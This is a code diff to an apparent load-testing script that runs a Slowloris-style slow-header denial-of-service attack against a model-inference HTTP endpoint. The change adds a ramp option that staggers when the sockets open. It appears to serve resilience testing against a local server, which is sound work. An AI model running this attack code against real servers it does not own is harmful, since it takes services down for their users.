@@ -3,7 +3,9 @@
 
 Each socket sends `POST /v2/models/tiny_mlp/infer HTTP/1.1`, then header bytes that never end,
 one byte every 1/rate seconds. When the server answers (a 408, say) or closes, the socket is
-counted and reopened at once, as a real attacker would, so the server always faces N of them.
+counted and reopened at once, as a real attacker would, so the server always faces N of them
+(after a ramp: the sockets first open spread over --ramp seconds, so their timeouts do not all
+fall in the same second).
 Standard library only (asyncio).
 
     python3 loadtest/slowloris.py --target 127.0.0.1:8000 --sockets 500 --rate 1 --duration 60 \
@@ -35,8 +37,11 @@ class Stats:
         self.samples: list[int] = []
 
 
-async def one_socket(host: str, port: int, interval: float, stop: asyncio.Event, stats: Stats, i: int) -> None:
+async def one_socket(
+    host: str, port: int, interval: float, delay: float, stop: asyncio.Event, stats: Stats, i: int
+) -> None:
     head = b"POST /v2/models/tiny_mlp/infer HTTP/1.1\r\nHost: victim\r\nX-Slow-" + str(i).encode() + b": "
+    await asyncio.sleep(delay)
     while not stop.is_set():
         try:
             reader, writer = await asyncio.open_connection(host, port)
@@ -78,13 +83,17 @@ async def main() -> None:
     p.add_argument("--sockets", type=int, default=500)
     p.add_argument("--rate", type=float, default=1.0, help="bytes per second per socket")
     p.add_argument("--duration", type=float, default=60.0, help="seconds")
+    p.add_argument("--ramp", type=float, default=10.0, help="seconds over which the sockets first open")
     p.add_argument("--json-out", help="result file (default: standard output)")
     args = p.parse_args()
     host, port = args.target.rsplit(":", 1)
     stats = Stats()
     stop = asyncio.Event()
     tasks = [
-        asyncio.create_task(one_socket(host, int(port), 1.0 / args.rate, stop, stats, i)) for i in range(args.sockets)
+        asyncio.create_task(
+            one_socket(host, int(port), 1.0 / args.rate, args.ramp * i / args.sockets, stop, stats, i)
+        )
+        for i in range(args.sockets)
     ]
     deadline = time.monotonic() + args.duration
     while time.monotonic() < deadline:
